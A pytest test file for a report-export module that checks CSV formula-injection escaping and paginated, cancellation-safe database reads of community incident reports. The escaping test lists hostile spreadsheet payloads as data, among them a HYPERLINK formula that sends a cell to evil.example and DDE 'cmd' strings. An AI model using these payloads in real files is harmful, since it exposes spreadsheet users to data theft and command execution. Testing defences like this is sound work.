"""Report rows for people and programs: CSV cells a spreadsheet would run are neutralised; exports
read the database a page at a time, in the same order as one query would give."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select, text

from gateway.areas.models import Area
from gateway.reports.export import (
    COLUMNS,
    ReportFilter,
    csv_header,
    csv_line,
    iter_report_rows,
    jsonl_line,
    report_pages,
    report_rows_query,
)
from gateway.wiring import Gateway
from tests.helpers import MakeReport
from tests.reports.bulk import insert_reports

ROW: dict[str, Any] = {
    "reference": "R-7K3F",
    "created_at": "2026-03-01T08:00:00+00:00",
    "channel": "ussd",
    "language": "bm",
    "topic": "security_incident",
    "country": "ML",
    "province": "Kadiolo",
    "commune": "Zégoua",
    "urgency": "urgent",
    "status": "new",
    "anonymous": True,
    "description": "Des hommes armés au marché",
}


def cells(record: dict[str, Any]) -> dict[str, str]:
    return dict(zip(COLUMNS, next(csv.reader(io.StringIO(csv_line(record)))), strict=True))


@pytest.mark.parametrize(
    ("field", "value", "cell"),
    [
        (
            "description",
            '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        ),
        ("description", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("description", "+2237600000", "'+2237600000"),
        ("description", "-1+1", "'-1+1"),
        ("description", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("description", "\t=1+1", "'\t=1+1"),
        ("description", "\r=1+1", "'\r=1+1"),
        ("description", "'=already quoted", "'=already quoted"),
        ("description", " =1+1", " =1+1"),  # a spreadsheet does not read this as a formula
        ("description", "Vol de bétail = 3 bœufs", "Vol de bétail = 3 bœufs"),
        ("description", "", ""),
        ("commune", "=Zégoua", "'=Zégoua"),
        ("commune", "@Niangoloko", "'@Niangoloko"),
        ("province", "-Kadiolo", "'-Kadiolo"),
        ("commune", None, ""),
        ("anonymous", False, "false"),
        ("anonymous", True, "true"),
        ("reference", "R-7K3F", "R-7K3F"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(field: str, value: Any, cell: str) -> None:
    assert cells({**ROW, field: value})[field] == cell


def test_only_text_cells_are_touched_and_jsonl_is_left_as_is() -> None:
    hostile = {**ROW, "description": "=1+1", "commune": "+Zégoua"}
    untouched = {k: v for k, v in cells(hostile).items() if k not in ("description", "commune", "anonymous")}
    assert untouched == {k: v for k, v in ROW.items() if k in untouched}
    assert '"description": "=1+1"' in jsonl_line(hostile)
    assert csv_header() == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("page_rows", [1, 2, 3, 7, 500])
async def test_pages_give_the_rows_of_one_query_in_its_order(
    gateway: Gateway, make_report: MakeReport, page_rows: int
) -> None:
    # Several reports at the same instant, so pages must break ties by id as the query does.
    start = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
    for i in range(12):
        at = start + timedelta(minutes=i // 4)
        await make_report("Zégoua" if i % 3 else "Banfora", at=at, text=f"signalement {i}")
    for where in (ReportFilter(), ReportFilter(limit=5), ReportFilter(topic="security_incident")):
        async with gateway.sessionmaker() as db:
            expected = [row async for row in iter_report_rows(db, report_rows_query(where))]
        pages = [page async for page in report_pages(gateway.sessionmaker, where, page_rows)]
        assert [row for page in pages for row in page] == expected
        assert all(len(page) <= page_rows for page in pages)


async def test_pages_follow_a_committee_s_communes(gateway: Gateway, make_report: MakeReport) -> None:
    for i in range(5):
        await make_report("Zégoua", text=f"Zégoua {i}")
        await make_report("Banfora", text=f"Banfora {i}")
    async with gateway.sessionmaker() as db:
        zegoua = (await db.execute(select(Area.id).where(Area.name == "Zégoua"))).scalar_one()
    where = ReportFilter(area_ids=frozenset({zegoua}))
    rows = [row async for page in report_pages(gateway.sessionmaker, where, 2) for row in page]
    assert sorted(row["description"] for row in rows) == [f"Zégoua {i}" for i in range(5)]


async def test_pages_hold_no_connection_between_them(gateway: Gateway, make_report: MakeReport) -> None:
    for i in range(4):
        await make_report("Zégoua", text=f"signalement {i}")
    pool: Any = gateway.db_engine.pool
    async for _page in report_pages(gateway.sessionmaker, ReportFilter(), 1):
        assert pool.checkedout() == 0  # the consumer may take as long as it likes here


async def test_a_consumer_cancelled_mid_read_leaves_its_connection_clean(gateway: Gateway) -> None:
    # A client leaving cancels the export while a page may be in the middle of being read. Cut
    # short, the read would leave its connection mid-transaction: on SQLite holding the write
    # lock, so the next USSD hop waits the whole busy timeout and gets the apology.
    await insert_reports(gateway, 3000)
    pool: Any = gateway.db_engine.pool
    cancelled_mid_read = 0
    for into_the_read_s in (0, 0.001, 0.002, 0.005, 0.01, 0.02):  # cancelled at different points
        task = asyncio.create_task(_drain(report_pages(gateway.sessionmaker, ReportFilter(), 3000)))
        async with asyncio.timeout(30):
            while pool.checkedout() == 0 and not task.done():
                await asyncio.sleep(0)
        await asyncio.sleep(into_the_read_s)
        cancelled_mid_read += pool.checkedout() > 0 and not task.done()
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task
        async with asyncio.timeout(10):  # a lock left behind would make this wait 30 s
            while pool.checkedout():
                await asyncio.sleep(0.01)
            async with gateway.sessionmaker() as db, db.begin():
                await db.execute(text("SELECT 1"))
    assert cancelled_mid_read  # else the reads were too quick to catch and this proved nothing


async def _drain(pages: AsyncIterator[list[dict[str, Any]]]) -> None:
    async for _page in pages:
        pass


async def test_pages_refuse_an_offset(gateway: Gateway) -> None:
    with pytest.raises(ValueError, match="offset"):
        [page async for page in report_pages(gateway.sessionmaker, ReportFilter(offset=10))]
